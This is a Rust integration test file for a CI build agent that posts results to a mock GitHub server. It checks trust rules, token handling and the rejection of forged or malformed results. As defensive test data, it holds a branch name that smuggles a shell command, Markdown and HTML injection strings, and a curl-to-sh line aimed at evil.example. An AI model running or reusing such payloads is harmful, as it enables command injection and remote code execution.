//! What jobs post to GitHub, and what a trusted step posts of the results of others.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use build_agent_tests::{GitHubServer, Ran, Sandbox, commit, git, github};
use nix::sys::signal::Signal;
use serde_json::{Value, json};

const NAME: &str = "build-agent: meta-tested scarthgap";

/// A job of a push to a protected branch, and GitHub.
struct Job {
    sandbox: Sandbox,
    server: GitHubServer,
    head: String,
}

impl Job {
    fn new(test: &str, reports: &str) -> Option<Job> {
        let sandbox = Sandbox::new(test)?;
        let github = format!("\n[github]\nrepository = \"example/meta-tested\"\nreport = {reports}\n");
        sandbox.write_manifest(&(sandbox.manifest_text() + &github));
        commit(&sandbox.layer(), "Add the manifest");
        let head = git(&sandbox.layer(), ["rev-parse", "HEAD"]);
        let merge = "9".repeat(40);
        let server = GitHubServer::start(&json!({
            "commits": { &head: [], &merge: ["8".repeat(40), &head] },
            "pulls": [{ "number": 7, "sha": head, "owner": "stranger", "branch": "'; touch /tmp/hostile; '" }],
        }));
        Some(Job { sandbox, server, head })
    }

    fn command(&self, event: &str) -> Command {
        let mut command = self.sandbox.run_command();
        command.envs(github::variables(event, &self.sandbox.layer(), &self.head));
        command.envs([
            ("BUILD_AGENT_TRUSTED_BRANCHES", "main"),
            ("GITHUB_TOKEN", "ghs_actions"),
            ("GITHUB_API_URL", &self.server.url()),
        ]);
        command
    }

    fn run(&self, event: &str) -> Ran {
        self.sandbox.start(self.command(event)).wait()
    }

    /// `context` → `state` of the newest status of each context.
    fn statuses(&self) -> Vec<(String, String)> {
        let mut found: Vec<(String, String)> = Vec::new();
        for status in self.server.state()["statuses"].as_array().unwrap() {
            let text = |key: &str| status[key].as_str().unwrap().to_owned();
            found.retain(|(context, _)| *context != text("context"));
            found.push((text("context"), text("state")));
        }
        found
    }

    fn result(&self) -> PathBuf {
        self.sandbox.out().join("result.json")
    }

    /// `report post` as a project in CodeBuild calls it, in a directory of its own.
    fn post(&self, token: &str, result: &Path, words: &[&str]) -> Ran {
        let mut command = self.sandbox.command(["report", "post"]);
        command.arg(result).args(["--name", "meta-tested scarthgap", "--repository", "example/meta-tested"]);
        command.args(["--commit", &self.head, "--pull-request", "7"]).args(words);
        command.envs([("GITHUB_TOKEN", token), ("GITHUB_API_URL", &self.server.url())]);
        self.sandbox.start(command).wait()
    }

    fn comments(&self) -> Vec<String> {
        let state = self.server.state();
        let all = state["comments"].as_array().unwrap().iter();
        all.map(|comment| comment["body"].as_str().unwrap().to_owned()).collect()
    }
}

fn write(path: &Path, value: &Value) {
    std::fs::write(path, value.to_string()).unwrap();
}

#[test]
fn a_trusted_job_posts_statuses_a_check_run_and_findings() {
    let test = "a_trusted_job_posts_statuses_a_check_run_and_findings";
    let Some(job) = Job::new(test, "[\"status\", \"check\", \"comment\", \"sarif\"]") else { return };
    let ran = job.run("push");
    ran.assert_code(&[0]);
    let success = |context: &str| (context.to_owned(), "success".to_owned());
    assert_eq!(job.statuses(), [success(NAME), success(&format!("{NAME} / check"))]);
    let state = job.server.state();
    let runs = state["check_runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!((&runs[0]["name"], &runs[0]["conclusion"]), (&json!(NAME), &json!("success")));
    assert_eq!(runs[0]["head_sha"], json!(job.head));
    assert!(state["comments"].as_array().unwrap().is_empty(), "a push has no comment");
    assert_eq!(state["sarifs"][0]["ref"], "refs/heads/main");
    job.server.assert_as_described(test);

    // The next commit fails.
    job.sandbox.behaviour("yocto-check-layer fail test_world");
    job.run("push").assert_code(&[1]);
    let failure = |context: &str| (context.to_owned(), "failure".to_owned());
    assert_eq!(job.statuses(), [failure(NAME), failure(&format!("{NAME} / check"))]);
    let state = job.server.state();
    let last = state["check_runs"].as_array().unwrap().last().unwrap();
    assert_eq!(last["conclusion"], "failure");
    assert!(last["output"]["summary"].as_str().unwrap().contains("test_world"), "{last}");
}

#[test]
fn an_untrusted_job_posts_nothing_and_says_so() {
    let test = "an_untrusted_job_posts_nothing_and_says_so";
    let Some(job) = Job::new(test, "[\"status\", \"check\", \"comment\", \"sarif\"]") else { return };
    for event in ["pull_request", "fork"] {
        let mut command = job.command(event);
        command.arg("--base").arg("HEAD");
        let ran = job.sandbox.start(command).wait();
        ran.assert_code(&[0]);
        ran.assert_says(&["results are not posted to GitHub by this job: its source is not trusted"]);
    }
    // Nor one that would post for another repository.
    job.sandbox.change_manifest("example/meta-tested", "example/other");
    commit(&job.sandbox.layer(), "Name another repository");
    let head = git(&job.sandbox.layer(), ["rev-parse", "HEAD"]);
    let mut command = job.command("push");
    command.env("GITHUB_SHA", head);
    let ran = job.sandbox.start(command).wait();
    ran.assert_says(&["the source is example/meta-tested, and `[github] repository` is example/other"]);
    assert!(job.server.exchanges().is_empty());
}

#[test]
fn each_report_that_cannot_be_posted_has_one_line_and_changes_nothing() {
    let test = "each_report_that_cannot_be_posted_has_one_line_and_changes_nothing";
    let Some(job) = Job::new(test, "[\"status\", \"check\", \"sarif\"]") else { return };
    let mut command = job.command("push");
    command.env("GITHUB_TOKEN", "ghp_reader");
    let ran = job.sandbox.start(command).wait();
    ran.assert_code(&[0]);
    for report in ["status", "check", "sarif"] {
        let line = format!("github {report}");
        let lines = ran.stdout.lines().filter(|said| said.contains(&line)).count();
        assert_eq!(lines, 1, "{report}: {}", ran.output());
    }
    assert_eq!(job.sandbox.result()["exit"], "passed");
    assert!(!ran.output().contains("ghp_reader"));
}

/// With GitHub down or slow, the job ends with its own verdict after at most 30 seconds, and the result is written.
#[test]
fn github_being_down_changes_no_verdict_and_loses_none() {
    let test = "github_being_down_changes_no_verdict_and_loses_none";
    let Some(job) = Job::new(test, "[\"status\", \"check\"]") else { return };
    for (faults, behaviour, code) in [
        (json!([{ "delay": 60, "times": 1000 }]), "", 0),
        (json!([{ "status": 503, "times": 1000 }]), "yocto-check-layer fail test_world", 1),
    ] {
        job.sandbox.behaviour(behaviour);
        job.server.faults(&faults);
        let began = Instant::now();
        let ran = job.run("push");
        ran.assert_code(&[code]);
        let result = job.sandbox.result();
        assert_eq!(result["exit_code"], json!(code));
        assert!(ran.output().contains("github status"), "{}", ran.output());
        let report =
            result["stages"].as_array().unwrap().iter().find(|stage| stage["stage"] == "report").unwrap();
        assert!(report["seconds"].as_f64().unwrap() < 35.0, "{report}");
        assert!(began.elapsed() < Duration::from_secs(100));
        job.server.faults(&json!([]));
    }
}

#[test]
fn a_job_that_was_killed_leaves_no_run_that_seems_to_run() {
    let test = "a_job_that_was_killed_leaves_no_run_that_seems_to_run";
    let Some(job) = Job::new(test, "[\"check\"]") else { return };
    job.sandbox.behaviour("yocto-check-layer hang");
    let mut running = job.sandbox.start(job.command("push"));
    running.wait_until("the check run shows what runs", || {
        let state = job.server.state();
        state["check_runs"][0]["status"] == "in_progress"
    });
    running.signal(Signal::SIGKILL);
    assert_eq!(running.wait().signal, Some(9));
    assert_eq!(job.server.state()["check_runs"][0]["status"], "in_progress");
    // The next attempt takes it over. It is killed while GitHub does not answer to the verdict.
    job.sandbox.behaviour("");
    job.server.faults(
        &json!([{ "method": "PATCH", "path": "check-runs", "after": 1, "delay": 60, "effect": true }]),
    );
    let mut running = job.sandbox.start(job.command("push"));
    running.wait_until("it posts", || {
        let text = std::fs::read_to_string(job.sandbox.out().join("events.jsonl")).unwrap_or_default();
        text.contains("github check")
    });
    std::thread::sleep(Duration::from_millis(500));
    running.signal(Signal::SIGKILL);
    running.wait();
    let ran = job.run("push");
    ran.assert_code(&[0]);
    let state = job.server.state();
    let runs = state["check_runs"].as_array().unwrap();
    assert!(runs.iter().all(|run| run["status"] == "completed"), "{runs:#?}");
    assert_eq!(runs.last().unwrap()["conclusion"], "success");
}

#[test]
fn a_trusted_step_posts_the_result_of_a_pull_request() {
    let test = "a_trusted_step_posts_the_result_of_a_pull_request";
    let Some(job) = Job::new(test, "[]") else { return };
    let all = ["--post", "status,check,comment,sarif"];
    // A green first run has no comment.
    job.sandbox.run().assert_code(&[0]);
    let ran = job.post("ghs_actions", &job.result(), &all);
    ran.assert_code(&[0]);
    ran.assert_says(&["comment: the job passed, so there is no comment"]);
    assert!(job.comments().is_empty());
    assert!(job.statuses().iter().all(|(_, state)| state == "success"));

    // What an author of a layer can write must not become Markdown.
    let hostile = "yocto-check-layer fail test_world @everyone <img/src=x> ![x](https://evil.example)";
    job.sandbox.behaviour(hostile);
    job.sandbox.run().assert_code(&[1]);
    for _ in 0..2 {
        let ran = job.post(
            "ghs_actions",
            &job.result(),
            &[&all[..], &["--link", "https://reports.example/7"]].concat(),
        );
        ran.assert_code(&[0]);
    }
    let comments = job.comments();
    assert_eq!(comments.len(), 1, "{comments:#?}");
    assert!(
        comments[0].starts_with("<!-- build-agent -->\n<!-- build-agent:begin meta-tested scarthgap -->")
    );
    assert!(comments[0].contains("test_world") && comments[0].contains("https://reports.example/7"));
    let state = job.server.state();
    let runs = state["check_runs"].as_array().unwrap();
    assert_eq!(runs.len(), 2, "one for each job, not for each post");
    assert_eq!(state["sarifs"][0]["ref"], "refs/pull/7/head");

    // Fixed: the same comment says so.
    job.sandbox.behaviour("");
    job.sandbox.run().assert_code(&[0]);
    job.post("ghs_actions", &job.result(), &all).assert_code(&[0]);
    let comments = job.comments();
    assert_eq!(comments.len(), 1);
    assert!(comments[0].contains("**PASSED**") && !comments[0].contains("test_world"), "{}", comments[0]);
    job.server.assert_as_described(test);

    // A token that cannot write check runs posts the rest.
    let ran = job.post("ghp_robot", &job.result(), &["--post", "status,check"]);
    ran.assert_code(&[4]);
    ran.assert_says(&["status: 2 statuses posted", "check not posted", "only a GitHub App"]);
}

#[test]
fn a_result_decides_neither_the_place_nor_more_than_its_verdict() {
    let test = "a_result_decides_neither_the_place_nor_more_than_its_verdict";
    let Some(job) = Job::new(test, "[]") else { return };
    job.sandbox.run().assert_code(&[0]);
    let good = job.sandbox.result();
    let path = job.sandbox.path().join("posted.json");
    let changed = |change: &dyn Fn(&mut Value)| {
        let mut result = good.clone();
        change(&mut result);
        write(&path, &result);
    };
    type Change<'a> = (&'a str, &'a dyn Fn(&mut Value), &'a [&'a str]);
    let table: [Change; 7] = [
        ("it is for the commit", &|it| it["job"]["commit"] = json!("8".repeat(40)), &[]),
        ("the commit that it names is not a commit id", &|it| it["job"]["commit"] = json!("main"), &[]),
        ("does not name its commit", &|it| it["job"]["commit"] = Value::Null, &[]),
        ("its schema is", &|it| it["schema"] = json!("build-agent/result/v9"), &[]),
        ("contradicts itself", &|it| it["stages"][0]["outcome"] = json!("failed"), &[]),
        ("the build ended with FAILED", &|_| {}, &["--build-status", "FAILED"]),
        ("contradicts itself", &|it| it["complete"] = json!(false), &[]),
    ];
    for (why, change, words) in table {
        changed(change);
        let ran = job.post("ghs_actions", &path, &[&["--post", "status,check,comment"], words].concat());
        ran.assert_code(&[0]);
        ran.assert_says(&[why]);
        assert_eq!(job.statuses(), [(NAME.to_owned(), "error".to_owned())], "{why}");
        let state = job.server.state();
        let last = state["check_runs"].as_array().unwrap().last().unwrap();
        assert_eq!((&last["status"], &last["conclusion"]), (&json!("completed"), &json!("failure")), "{why}");
        assert_eq!(job.comments().len(), 1, "{why}");
    }
    // Files that are no result.
    for content in ["", "{", "[]", "null", "{\"schema\": \"build-agent/result/v1\"}"] {
        std::fs::write(&path, content).unwrap();
        job.post("ghs_actions", &path, &["--post", "status"]).assert_code(&[0]);
        assert_eq!(job.statuses(), [(NAME.to_owned(), "error".to_owned())], "{content:?}");
    }
    std::fs::File::create(&path).unwrap().set_len(65 << 20).unwrap();
    job.post("ghs_actions", &path, &["--post", "status"]).assert_says(&["larger than"]);
    std::fs::remove_file(&path).unwrap();
    nix::unistd::mkfifo(&path, nix::sys::stat::Mode::S_IRWXU).unwrap();
    job.post("ghs_actions", &path, &["--post", "status"]).assert_code(&[0]);
    std::fs::remove_file(&path).unwrap();
    job.post("ghs_actions", &path, &["--post", "status"]).assert_says(&["No such file"]);

    // A result of the merge commit, with addresses and names of its own choice.
    let path = job.sandbox.path().join("merge.json");
    let mut result = good.clone();
    result["job"]["commit"] = json!("9".repeat(40));
    result["job"]["name"] = json!("other");
    result["job"]["url"] = json!("https://evil.example/");
    result["job"]["reproduce"] = json!(["curl", "https://evil.example/", "|", "sh"]);
    write(&path, &result);
    let ran = job.post("ghs_actions", &path, &["--post", "status,check,comment", "--comment", "always"]);
    ran.assert_code(&[0]);
    let state = job.server.state().to_string();
    assert!(!state.contains("evil.example"), "{state}");
    assert!(job.statuses().contains(&(NAME.to_owned(), "success".to_owned())));
    assert!(job.server.state()["statuses"].as_array().unwrap().iter().all(|it| it["sha"] == json!(job.head)));
    // The pull request has moved on: its comment stays as it is.
    let other = GitHubServer::start(&json!({ "commits": { &job.head: [] },
        "pulls": [{ "number": 7, "sha": "5".repeat(40), "owner": "stranger", "branch": "x" }] }));
    let mut command = job.sandbox.command(["report", "post"]);
    command.arg(job.result()).args([
        "--name",
        "meta-tested scarthgap",
        "--repository",
        "example/meta-tested",
    ]);
    command.args(["--commit", &job.head, "--pull-request", "7"]);
    command.envs([("GITHUB_TOKEN", "ghs_actions"), ("GITHUB_API_URL", &other.url())]);
    let ran = job.sandbox.start(command).wait();
    ran.assert_code(&[4]);
    ran.assert_says(&["pull request 7 has another commit by now"]);
    assert_eq!(other.state()["check_runs"][0]["conclusion"], "success");
    assert!(other.state()["comments"].as_array().unwrap().is_empty());
}

/// GitHub's event names repository, commit and branch.
#[test]
fn a_workflow_posts_the_result_of_the_run_before_it() {
    let test = "a_workflow_posts_the_result_of_the_run_before_it";
    let Some(job) = Job::new(test, "[]") else { return };
    job.sandbox.behaviour("yocto-check-layer fail test_world");
    job.sandbox.run().assert_code(&[1]);
    let text = std::fs::read_to_string(github::event_path("workflow_run")).unwrap();
    let event = job.sandbox.path().join("event.json");
    std::fs::write(&event, text.replace("1111111111111111111111111111111111111111", &job.head)).unwrap();
    let mut variables = github::variables("push", &job.sandbox.layer(), &"2".repeat(40));
    variables.retain(|(name, _)| !["GITHUB_EVENT_NAME", "GITHUB_EVENT_PATH"].contains(name));
    let call = |words: &[&str]| {
        let mut command = job.sandbox.command(["report", "post"]);
        command.args(["--name", "meta-tested scarthgap"]).args(words).envs(variables.iter().cloned());
        command.envs([("GITHUB_EVENT_NAME", "workflow_run"), ("GITHUB_TOKEN", "ghs_actions")]);
        command.env("GITHUB_EVENT_PATH", &event).env("GITHUB_API_URL", job.server.url());
        job.sandbox.start(command).wait()
    };
    let result = job.result().display().to_string();
    call(&["--state", "in-progress"]).assert_code(&[0]);
    let state = job.server.state();
    assert_eq!(state["check_runs"][0]["status"], "in_progress");
    assert_eq!(state["statuses"][0]["state"], "pending");
    call(&[&result]).assert_code(&[0]);
    let state = job.server.state();
    assert_eq!(state["check_runs"].as_array().unwrap().len(), 1, "the run that was in progress");
    assert_eq!(state["check_runs"][0]["conclusion"], "failure");
    assert!(state["check_runs"][0]["details_url"].as_str().unwrap().contains("/actions/runs/4712"));
    assert_eq!(job.comments().len(), 1, "the pull request was found by its branch in the fork");
    job.server.assert_as_described(test);
    for words in [["--commit", "3333333333333333333333333333333333333333"], ["--repository", "example/other"]]
    {
        let ran = call(&[&[result.as_str()][..], &words[..]].concat());
        ran.assert_code(&[2]);
        ran.assert_says(&["the event of this run says"]);
    }
}
